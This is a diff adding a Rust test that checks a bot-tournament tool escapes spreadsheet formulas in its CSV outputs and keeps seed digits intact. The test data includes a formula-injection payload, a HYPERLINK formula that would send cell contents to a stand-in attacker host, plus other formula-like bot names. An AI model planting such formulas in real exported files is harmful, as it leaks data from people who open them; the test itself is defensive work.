@@ -272,3 +272,66 @@ fn modules_are_compiled_once_and_the_cache_can_be_switched_off_or_damaged() {
         assert!(!cache.exists() && !place.path("off").exists());
     }
 }
+
+#[test]
+fn no_cell_is_a_formula_or_loses_digits_in_a_spreadsheet() {
+    let place = Place::new();
+    let names = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Ann\")",
+        "-2+3",
+        "＠SUM(A1;-1)",
+    ];
+    let bots = ["steady.wasm", "shaky.wasm", "clumsy.wasm"];
+    let list: Vec<_> = names
+        .iter()
+        .zip(bots)
+        .map(|(name, bot)| format!("{name} = {bot}"))
+        .collect();
+    write(
+        &place.path(""),
+        "bots.txt",
+        format!("\u{feff}{}\n", list.join("\n")),
+    );
+    place.done("tournament kingdom --bots-from bots.txt --matches 6 --out out");
+    place.done("merge out --csv results.csv");
+    let expected = [
+        "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Ann\"\")\"",
+        "'-2+3",
+        "'＠SUM(A1;'-1)",
+    ];
+    for file in ["out/table.csv", "out/head-to-head.csv", "results.csv"] {
+        let text = place.read(file);
+        for name in expected {
+            assert!(
+                text.contains(&format!(",{name},")) || text.contains(&format!("\n{name},")),
+                "{file}: {text}"
+            );
+        }
+        assert!(
+            !text.contains(",-2+3,") && !text.contains("\n-2+3,"),
+            "{file}: {text}"
+        );
+    }
+    let seeds = place.read("results.csv");
+    let seeds: Vec<_> = seeds
+        .lines()
+        .skip(1)
+        .filter_map(|line| line.split(',').nth(1))
+        .collect();
+    assert_eq!(seeds.len(), 12);
+    for (line, seed) in place.read("out/results.jsonl").lines().zip(seeds.chunks(2)) {
+        let digits = seed[0].strip_prefix('\'').unwrap();
+        assert!(
+            seed[0] == seed[1] && line.contains(&format!("\"seed\":{digits},")),
+            "{line}: {seed:?}"
+        );
+    }
+    // The other files have the names as they are, and all of it is read again.
+    assert!(place.read("out/table.json").contains("\"bot\":\"-2+3\""));
+    place.done("audit out --share 100%");
+    // Tables from before there was this rule are still those of the results.
+    for file in ["out/table.csv", "out/head-to-head.csv"] {
+        fs::write(place.path(file), place.read(file).replace('\'', "")).unwrap();
+    }
+    place.done("audit out --share 100%");
+}
